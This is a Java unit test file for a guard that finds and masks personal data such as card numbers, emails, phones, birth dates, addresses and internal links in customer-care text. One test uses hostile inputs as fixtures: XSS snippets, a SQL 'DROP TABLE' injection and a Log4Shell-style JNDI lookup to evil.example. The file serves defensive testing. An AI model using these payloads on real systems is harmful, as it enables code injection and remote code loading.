package org.socialcarebridge.reply.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SensitiveDataGuardTest {
    static final Clock DECEMBER_2026 = Clock.fixed(Instant.parse("2026-12-01T20:00:00Z"), ZoneOffset.UTC);
    static final SensitiveDataGuard GUARD = new SensitiveDataGuard(GuardSettings.from(Map.of(
            "guard.internalDomains", "intranet.acme.com, acme.local",
            "guard.pattern.order number", "ACM-\\d{6}")), DECEMBER_2026);

    static Set<SensitiveData> kinds(String text) {
        return GUARD.inspect(text).stream().map(Finding::kind).collect(Collectors.toSet());
    }

    static void assertFound(SensitiveData kind, String text) {
        assertEquals(Set.of(kind), kinds(text), text + " -> " + GUARD.inspect(text));
    }

    static void assertClean(String text) {
        assertEquals(List.of(), GUARD.inspect(text), text);
    }

    /** The masked excerpt must never hold the value, nor its digits in a row. */
    static void assertMasked(String value, Finding f) {
        assertFalse(f.shown().contains(value), f.toString());
        String digits = ReadableText.digitsOf(value);
        if (digits.length() > 4) {
            assertFalse(ReadableText.digitsOf(f.shown()).contains(digits), f.toString());
        }
    }

    // Cards

    @ParameterizedTest
    @ValueSource(strings = {"4242 4242 4242 4242", "4242-4242-4242-4242", "4242424242424242", "3782 822463 10005",
            "5555555555554444", "6011 1111 1111 1117", "4111 1111 1111 1111 and more"})
    void luhnValidCardNumbersAreFound(String card) {
        String text = "@jane your card " + card + " was charged.";
        List<Finding> found = GUARD.inspect(text);
        assertEquals(1, found.size(), found.toString());
        Finding f = found.get(0);
        assertEquals(SensitiveData.CARD_NUMBER, f.kind());
        assertTrue(card.startsWith(text.substring(f.start(), f.end())), text.substring(f.start(), f.end()));
        assertMasked(card.replace(" and more", ""), f);
        assertTrue(f.shown().startsWith("•••• •••• •••• "), f.shown());
    }

    @Test
    void cardShowsOnlyItsLastFourDigits() {
        Finding f = GUARD.inspect("card 4242 4242 4242 4242").get(0);
        assertEquals("•••• •••• •••• 4242", f.shown());
        assertEquals("a card number (•••• •••• •••• 4242)", f.describe());
    }

    @ParameterizedTest
    @ValueSource(strings = {"4242424242424241", "1234 5678 1234 5678", "order 1234123412341234 shipped",
            "UPS 1Z999AA10123456784", "FedEx 961234567890123", "FedEx 123456789012", "USPS 9400111899223344556677",
            "0000 0000 0000 0000", "1 2 3 4 5 6 7 8 9 1 2 3 4 5 6"})
    void numbersThatAreNotCardsPass(String text) {
        assertFalse(kinds(text).contains(SensitiveData.CARD_NUMBER), text + " -> " + GUARD.inspect(text));
    }

    @Test
    void fullWidthAndOtherScriptDigitsAreDigits() {
        String fullWidth = "card ４２４２ ４２４２ ４２４２ ４２４２";
        List<Finding> found = GUARD.inspect(fullWidth);
        assertEquals(1, found.size(), found.toString());
        assertEquals(SensitiveData.CARD_NUMBER, found.get(0).kind());
        assertEquals("４２４２ ４２４２ ４２４２ ４２４２", fullWidth.substring(found.get(0).start(), found.get(0).end()));
        assertFound(SensitiveData.CARD_NUMBER, "٤٢٤٢٤٢٤٢٤٢٤٢٤٢٤٢");
        assertFound(SensitiveData.PHONE, "call ＋４４ ２０ ７９４６ ０９５８");
    }

    @Test
    void spacesDashesAndInvisibleCharactersCopiedFromDocumentsDoNotHideANumber() {
        for (String card : new String[] {"4242\u00a04242\u00a04242\u00a04242", "4242\u20134242\u20134242\u20134242",
                "4242\u200b4242\u200b4242\u200b4242", "4\u00ad242424242424242", "4242\u202f4242\u202f4242\u202f4242"}) {
            String text = "card " + card + " ok";
            List<Finding> found = GUARD.inspect(text);
            assertEquals(1, found.size(), card + " -> " + found);
            assertEquals(SensitiveData.CARD_NUMBER, found.get(0).kind());
            assertEquals(card, text.substring(found.get(0).start(), found.get(0).end()), "positions are the original text's");
        }
        String email = "mail j\u200bane\uff20example.com";
        Finding f = GUARD.inspect(email).get(0);
        assertEquals(SensitiveData.EMAIL, f.kind());
        assertEquals("j\u200bane\uff20example.com", email.substring(f.start(), f.end()));
        assertFound(SensitiveData.PHONE, "call\u00a0\uff0b44\u00a020\u00a07946\u00a00958");
    }

    // E-mail

    @Test
    void emailAddressesAreFoundAndMasked() {
        String text = "Hi, write to jane.doe+care@example.co.uk.";
        Finding f = GUARD.inspect(text).get(0);
        assertEquals(SensitiveData.EMAIL, f.kind());
        assertEquals("jane.doe+care@example.co.uk", text.substring(f.start(), f.end()));
        assertEquals("j•••@example.co.uk", f.shown());
        assertMasked("jane.doe+care@example.co.uk", f);
        assertFound(SensitiveData.EMAIL, "mail JOHN@EXAMPLE.COM now");
    }

    @ParameterizedTest
    @ValueSource(strings = {"@acme_help123 thanks", "@jane@mastodon.social thanks for waiting", "#deal2024 @acme",
            "email us via the form", "user@localhost", "a@b"})
    void handlesAndMentionsAreNotEmailAddresses(String text) {
        assertFalse(kinds(text).contains(SensitiveData.EMAIL), text + " -> " + GUARD.inspect(text));
    }

    // Phones

    @ParameterizedTest
    @ValueSource(strings = {"+44 20 7946 0958", "+442079460958", "+1 (212) 555-0147", "+44 (0)20 7946 0958",
            "(212) 555-0147", "212-555-0147", "212.555.0147", "1-800-555-0147", "020 7946 0958", "(020) 7946 0958",
            "07700 900123", "0800 123 4567"})
    void phoneNumbersAreFound(String phone) {
        String text = "Reach her on " + phone + ", thanks";
        List<Finding> found = GUARD.inspect(text);
        assertEquals(1, found.size(), found.toString());
        assertEquals(SensitiveData.PHONE, found.get(0).kind());
        assertEquals(phone, text.substring(found.get(0).start(), found.get(0).end()));
        String digits = ReadableText.digitsOf(phone);
        assertEquals("••• ••• •" + digits.substring(digits.length() - 3), found.get(0).shown());
        assertMasked(phone, found.get(0));
    }

    @ParameterizedTest
    @ValueSource(strings = {"call 555-0147", "Phone: 555 0147", "tel:555-0147", "ring me on 7946 0958", "Mobile 5550147",
            "please call us back at 555-0147"})
    void shortNumbersNeedACue(String text) {
        assertFound(SensitiveData.PHONE, text);
        assertClean(text.replaceAll("(?i)call|phone|tel|ring|mobile", "see"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"It costs £1,299.99 now", "Open 09:30-17:00 Mon-Fri", "We're here 24/7", "Delivery takes 1-2 days",
            "Update to version 10.4.12.3 please", "Back in 2019", "Price $1,234,567", "Rooms 101 102 103 104",
            "#sale2024 #black-friday-20241129", "@user12345678 hi", "Call us 24/7", "call about refund 1-2 days",
            "Tracking 1Z999AA10123456784", "Ref 12345678901234567890", "ring 3 times", "the 3-4 pm slot"})
    void numbersThatAreNotPhonesPass(String text) {
        assertFalse(kinds(text).contains(SensitiveData.PHONE), text + " -> " + GUARD.inspect(text));
    }

    @Test
    void orderNumbersTheAdministratorNamedAreNotPhones() {
        List<Finding> found = GUARD.inspect("call about ACM-123456 please");
        assertEquals(1, found.size(), found.toString());
        assertEquals(SensitiveData.ACCOUNT_NUMBER, found.get(0).kind());
        assertEquals("order number", found.get(0).name());
        assertEquals("••••••••56", found.get(0).shown());
        assertEquals("an order number (••••••••56)", found.get(0).describe());
    }

    // Dates of birth

    @ParameterizedTest
    @ValueSource(strings = {"born 12/03/2014", "DOB: 2014-03-12", "date of birth 12 March 2014", "d.o.b. March 12, 2014",
            "birthday 12th of March, 2014", "12.03.2014 (DOB)"})
    void recentDatesAreDatesOfBirthWithACue(String text) {
        assertFound(SensitiveData.DATE_OF_BIRTH, text);
        assertClean(text.replaceAll("(?i)born|dob|date of birth|d\\.o\\.b\\.|birthday", "seen"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"12/03/1985", "1985-03-12", "12 March 1985", "March 12, 1985", "3/31/1985", "1 Jan 1900", "31.12.2010"})
    void oldFullDatesAreDatesOfBirthWithoutCue(String date) {
        String text = "We have " + date + " on file";
        Finding f = GUARD.inspect(text).get(0);
        assertEquals(SensitiveData.DATE_OF_BIRTH, f.kind());
        assertEquals(date, text.substring(f.start(), f.end()));
        assertFalse(f.shown().contains(date.replaceAll("\\D*(\\d{4})\\D*", "$1")), f.shown());
        assertTrue(f.shown().startsWith("••/••/"), f.shown());
    }

    @ParameterizedTest
    @ValueSource(strings = {"born 12/03/2017", "born in 1985", "March 1985", "12 March", "your order of 12/03/2025",
            "DOB 31/02/1985", "13/13/1985", "born 01/01/1899", "since 2024-11-30", "1.2.1999.4", "member since 01/01/2001",
            "ordered on 12 March 2005", "the invoice dated 1999-03-12", "valid until 12/2030", "founded on May 1, 1901"})
    void otherDatesAreNotDatesOfBirth(String text) {
        assertFalse(kinds(text).contains(SensitiveData.DATE_OF_BIRTH), text + " -> " + GUARD.inspect(text));
    }

    @Test
    void aBirthCueOutweighsOtherWords() {
        assertFound(SensitiveData.DATE_OF_BIRTH, "member since 2001, born 12/03/1985");
        assertFound(SensitiveData.DATE_OF_BIRTH, "ordered by DOB 12/03/1985");
    }

    @Test
    void theYearLimitMovesWithTheClock() {
        SensitiveDataGuard in2030 = new SensitiveDataGuard(GuardSettings.defaults(),
                Clock.fixed(Instant.parse("2030-06-01T00:00:00Z"), ZoneOffset.UTC));
        assertEquals(List.of(), GUARD.inspect("on 12/03/2014"));
        assertEquals(SensitiveData.DATE_OF_BIRTH, in2030.inspect("on 12/03/2014").get(0).kind());
    }

    // Postal addresses

    @ParameterizedTest
    @ValueSource(strings = {"221B Baker Street", "10 Downing St", "1600 Pennsylvania Avenue", "350 5th Avenue",
            "12 Acacia Ave", "3 St Mary's Road", "SW1A 1AA", "M1 1AE", "EC1A1BB", "Springfield, IL 62704",
            "St. Louis, MO 63101-1234"})
    void postalAddressesAreFound(String address) {
        String text = "Sent to " + address + " today";
        List<Finding> found = GUARD.inspect(text);
        assertEquals(1, found.size(), found.toString());
        assertEquals(SensitiveData.POSTAL_ADDRESS, found.get(0).kind());
        assertEquals(address, text.substring(found.get(0).start(), found.get(0).end()));
        assertMasked(address, found.get(0));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Our store on 1st Avenue", "it takes 2 days in court", "2 days way too long",
            "We have 3 stores close to you", "PS5 2TB in stock", "iPhone 15 Pro Max", "Chicago, IL", "12345 items",
            "ABC 123", "The Way We Were"})
    void textsThatAreNotAddressesPass(String text) {
        assertFalse(kinds(text).contains(SensitiveData.POSTAL_ADDRESS), text + " -> " + GUARD.inspect(text));
    }

    // Internal links

    @ParameterizedTest
    @ValueSource(strings = {"https://intranet.acme.com/kb/123", "https://wiki.intranet.acme.com/x?a=1", "http://acme.local",
            "http://localhost:8080/admin", "http://127.0.0.1/status", "http://10.1.2.3:9000", "https://172.20.0.5/",
            "http://192.168.1.10/cfg", "https://jira.corp/browse/CARE-1", "http://build.lan", "https://vault.internal/x",
            "http://wiki/Refunds", "http://[::1]:8080/", "https://user:pw@intranet.acme.com/", "intranet.acme.com/kb/123",
            "see wiki.acme.local for details"})
    void internalLinksAreFound(String link) {
        String text = "see " + link + ".";
        List<Finding> found = GUARD.inspect(text);
        assertEquals(1, found.size(), found.toString());
        assertEquals(SensitiveData.INTERNAL_LINK, found.get(0).kind());
        assertFalse(text.substring(found.get(0).end()).contains("/"), "the whole link is covered");
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://www.acme.com/help", "https://acme.com", "https://notintranet.acme.com/",
            "https://intranet.acme.com.evil.example/", "http://172.32.0.1/", "https://8.8.8.8/", "acme.com/help",
            "https://example.com/?next=intranet.acme.com", "runs on localhost", "version 10.0.0.1"})
    void publicLinksPass(String text) {
        assertClean(text);
    }

    @Test
    void internalLinkShowsSchemeAndHostOnly() {
        Finding f = GUARD.inspect("https://intranet.acme.com/customers/42?token=abc").get(0);
        assertEquals("https://intranet.acme.com", f.shown());
    }

    // Switching kinds off

    @Test
    void kindsSwitchedOffAreNotReported() {
        SensitiveDataGuard guard = new SensitiveDataGuard(GuardSettings.from(Map.of(
                "guard.off", "postal-address, EMAIL", "guard.pattern.order number", "ACM-\\d{6}")), DECEMBER_2026);
        assertEquals(List.of(), guard.inspect("10 Downing St, jane@example.com"));
        assertEquals(SensitiveData.CARD_NUMBER, guard.inspect("4242 4242 4242 4242").get(0).kind());
        SensitiveDataGuard noAccounts = new SensitiveDataGuard(GuardSettings.from(Map.of(
                "guard.off", "account-number", "guard.pattern.order number", "ACM-\\d{6}")), DECEMBER_2026);
        assertEquals(List.of(), noAccounts.inspect("ACM-123456"));
    }

    // Hostile and odd inputs

    @Test
    void emptyAndNullTextsHaveNothing() {
        assertEquals(List.of(), GUARD.inspect(""));
        assertEquals(List.of(), GUARD.inspect(null));
        assertClean("   \n\t ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"😀😀😀🎉🔥", "Спасибо за терпение", "ご迷惑をおかけしました。", "شكرا لك", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "'; DROP TABLE tickets; --", "\u0000\u202e\u200b", "%00%0a${jndi:ldap://evil.example/a}"})
    void textsWithoutPersonalDataPass(String text) {
        assertClean(text);
    }

    @Test
    void personalDataIsFoundAmongScriptsAndMarkup() {
        List<Finding> found = GUARD.inspect("<script>alert('4242 4242 4242 4242')</script> Спасибо, jane@example.com 😀");
        assertEquals(List.of(SensitiveData.CARD_NUMBER, SensitiveData.EMAIL), found.stream().map(Finding::kind).toList());
    }

    @Test
    void findingsComeInTextOrder() {
        List<Finding> found = GUARD.inspect("mail a@example.com, card 4242424242424242, phone +44 20 7946 0958, 10 Downing St");
        assertEquals(List.of(SensitiveData.EMAIL, SensitiveData.CARD_NUMBER, SensitiveData.PHONE, SensitiveData.POSTAL_ADDRESS),
                found.stream().map(Finding::kind).toList());
    }

    @Test
    void hostileTenThousandCharacterTextsTakeLinearTime() {
        String[] bits = {"Thanks for waiting ", "1234 ", "5678-", "+", "a@", "a.", "http://", "(", "0", "9", ". ", "St ",
                "Street ", "born ", "12/", "2014-", "SW1A ", ", IL ", "aaaa", "\n"};
        StringBuilder mixed = new StringBuilder();
        java.util.Random random = new java.util.Random(7);
        while (mixed.length() < 10_000) {
            mixed.append(bits[random.nextInt(bits.length)]);
        }
        String[] texts = {mixed.substring(0, 10_000), "1 ".repeat(5_000), "a.".repeat(5_000), "9".repeat(10_000),
                "Aa ".repeat(3_333) + "A", "+1 ".repeat(3_333) + "1", "x@".repeat(5_000), "0 0".repeat(3_333),
                "4242 ".repeat(2_000), "http://a".repeat(1_250)};
        for (String text : texts) {
            // Backtracking without bound would take seconds here; the margin is for a busy shared build host.
            long took = fastest(text);
            assertTrue(took < 50_000_000L, "took " + took / 1_000_000 + " ms on " + text.substring(0, 40));
        }
    }

    /** The fastest of a few runs once the JIT has compiled the guard: the machine's noise is not the guard's. */
    private static long fastest(String text) {
        for (int i = 0; i < 20; i++) {
            GUARD.inspect(text);
        }
        long best = Long.MAX_VALUE;
        for (int i = 0; i < 10; i++) {
            long t0 = System.nanoTime();
            GUARD.inspect(text);
            best = Math.min(best, System.nanoTime() - t0);
        }
        return best;
    }
}
